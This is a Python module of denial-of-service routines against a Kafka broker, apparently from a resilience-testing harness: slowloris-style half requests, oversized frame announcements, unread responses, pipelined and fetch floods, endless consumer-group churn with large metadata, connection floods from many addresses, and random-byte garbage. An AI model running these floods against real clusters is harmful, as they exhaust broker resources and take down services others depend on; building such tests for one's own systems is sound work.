"""Attacks by connections: many of them, half requests, answers that nobody reads, waits that nobody ends."""

from __future__ import annotations

import contextlib
import os
import resource
import socket
import struct
import time
from typing import Final

from attacks.connection import Attacker, cut_off, framed, head
from attacks.frames import TOPIC

FRAME_MAX_BYTES: Final = 100 << 20
HALF_CLIENTS: Final = 620
HALF_BYTES: Final = 100_000
SLOW_READERS: Final = 40
WAITS_PER_CONNECTION: Final = 500
GROUPS: Final = 3_000
FORMED_AT_ONCE: Final = 40
METADATA_BYTES: Final = 50_000
FLOOD_MAX: Final = 5_000
CROWD_MAX: Final = 20_000
CROWD_ADDRESSES: Final = 50
PAUSE_S: Final = 0.05


def announced(address: str, deadline_s: float) -> int:
    """25 connections that announce 100 MB each, and send five bytes."""
    return _hold(address, deadline_s, 25, struct.pack(">i", FRAME_MAX_BYTES) + b"\0")


def halves(address: str, deadline_s: float) -> int:
    """620 clients that stop in the middle of a request of 1 MB."""
    request = head(0, 3) + struct.pack(">hhiih", -1, 1, 1000, 1, len(TOPIC)) + TOPIC + bytes(HALF_BYTES)
    return _hold(address, deadline_s, HALF_CLIENTS, struct.pack(">i", 1_000_000) + request)


def unread_answers(address: str, deadline_s: float) -> int:
    """40 clients that ask for much and read nothing."""
    names = b"".join(struct.pack(">h", 1) + b"%c" % (65 + n % 26) for n in range(20_000))
    body = framed(head(3, 4) + struct.pack(">i", 20_000) + names + b"\0")
    sent = 0
    with contextlib.ExitStack() as stack:
        readers = [stack.enter_context(Attacker(address, 4096)) for _ in range(SLOW_READERS)]
        for reader in readers:
            reader.socket.settimeout(PAUSE_S)
        while time.monotonic() < deadline_s:
            for reader in readers:
                with contextlib.suppress(OSError):
                    sent += reader.socket.send(body)
            time.sleep(PAUSE_S)
    return sent // len(body)


def pipelined(address: str, deadline_s: float) -> int:
    """ApiVersions, 20,000 of them at once on one connection, again and again."""
    many = framed(head(18, 0)) * 20_000
    number = 0
    while time.monotonic() < deadline_s:
        with cut_off(), Attacker(address) as attacker:
            attacker.socket.setblocking(False)
            left = memoryview(many)
            while time.monotonic() < deadline_s:
                with contextlib.suppress(BlockingIOError):
                    left = left[attacker.socket.send(left) :]
                with contextlib.suppress(BlockingIOError):
                    number += len(attacker.socket.recv(1 << 20)) > 0
                left = left or memoryview(many)
    return number


def waiting_fetches(address: str, deadline_s: float) -> int:
    """Connections that send 500 waiting fetches each, and go."""
    fetch = (
        head(1, 4) + struct.pack(">iiiibih", -1, 2**31 - 1, 2**31 - 1, 2**31 - 1, 0, 1, len(TOPIC)) + TOPIC
    )
    many = framed(fetch + struct.pack(">iiqi", 1, 0, 0, 1 << 20)) * WAITS_PER_CONNECTION
    number = 0
    while time.monotonic() < deadline_s:
        with cut_off(), Attacker(address) as attacker:
            attacker.socket.sendall(many)
            number += 1
    return number


def groups(address: str, deadline_s: float) -> int:
    """New groups without end, with 50 kB of metadata for each member, and heartbeats to them."""
    number = 0
    while time.monotonic() < deadline_s:
        with cut_off(), Attacker(address) as attacker:
            while time.monotonic() < deadline_s:
                name = b"group%06d" % (number % GROUPS)
                join = (
                    head(11, 2)
                    + struct.pack(">h", len(name))
                    + name
                    + struct.pack(">iih", 100_000, 100_000, 0)
                )
                join += struct.pack(">h", 8) + b"consumer" + struct.pack(">ih", 1, 5) + b"range"
                attacker.send(join + struct.pack(">i", 50_000) + bytes(50_000))
                attacker.send(head(12, 0) + struct.pack(">h", len(name)) + name + struct.pack(">ih", 1, 0))
                number += 1
    return number


def formed_groups(address: str, deadline_s: float) -> int:
    """40 groups that form again and again, with 50 kB of metadata for each member, which ZooKeeper stores."""
    number = 0
    while time.monotonic() < deadline_s:
        with cut_off(), contextlib.ExitStack() as stack:
            members = [stack.enter_context(Attacker(address)) for _ in range(FORMED_AT_ONCE)]
            while time.monotonic() < deadline_s:
                names = [_text(b"formed%d-%d" % (number, at)) for at in range(FORMED_AT_ONCE)]
                for name, member in zip(names, members, strict=True):
                    join = head(11, 2) + name + struct.pack(">ii", 100_000, 100_000) + _text(b"")
                    join += _text(b"consumer") + struct.pack(">i", 1) + _text(b"range")
                    member.send(join + struct.pack(">i", METADATA_BYTES) + os.urandom(METADATA_BYTES))
                for name, member in zip(names, members, strict=True):
                    _form_and_leave(member, name)
                    number += 1
    return number


def _form_and_leave(member: Attacker, name: bytes) -> None:
    """Reads the answer to a group's only JoinGroup, gives the member its part, and takes it out."""
    answer = member.answer()  # correlation id, throttle time, error, generation, three texts
    generation, at, told = answer[10:14], 14, b""
    for _ in range(3):
        told = answer[at : at + 2 + int.from_bytes(answer[at : at + 2])]
        at += len(told)
    member.call(head(14, 1) + name + generation + told + struct.pack(">i", 0))
    member.call(head(13, 0) + name + told)


def _text(text: bytes) -> bytes:
    return struct.pack(">h", len(text)) + text


def flood(address: str, deadline_s: float) -> int:
    """Connections without end, each of which says nothing and stays."""
    number = 0
    with contextlib.ExitStack() as stack:
        while time.monotonic() < deadline_s and number < FLOOD_MAX:
            with cut_off():
                stack.enter_context(Attacker(address))
                number += 1
        time.sleep(max(0.0, deadline_s - time.monotonic()))
    return number


def crowd(address: str, deadline_s: float) -> int:
    """Connections from 50 addresses until all are taken, and more in the place of those that are closed."""
    host, _, port = address.rpartition(":")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(CROWD_MAX, hard)), hard))
    number = 0
    with contextlib.ExitStack() as stack:
        while time.monotonic() < deadline_s:
            with cut_off():
                source = (f"127.0.1.{number % CROWD_ADDRESSES}", 0)
                held = stack.enter_context(socket.create_connection((host, int(port)), 10, source))
                held.setblocking(False)
                number += 1
    return number


def garbage(address: str, deadline_s: float) -> int:
    """Connections that send random bytes."""
    number = 0
    while time.monotonic() < deadline_s:
        with cut_off(), Attacker(address) as attacker:
            attacker.socket.settimeout(PAUSE_S)
            attacker.socket.sendall(os.urandom(1 << 16))
            attacker.socket.recv(1)
            number += 1
    return number


def _hold(address: str, deadline_s: float, count: int, data: bytes) -> int:
    with contextlib.ExitStack() as stack:
        number = 0
        for _ in range(count):
            with cut_off():
                attacker = stack.enter_context(Attacker(address))
                attacker.socket.sendall(data)
                number += 1
        time.sleep(max(0.0, deadline_s - time.monotonic()))
    return number
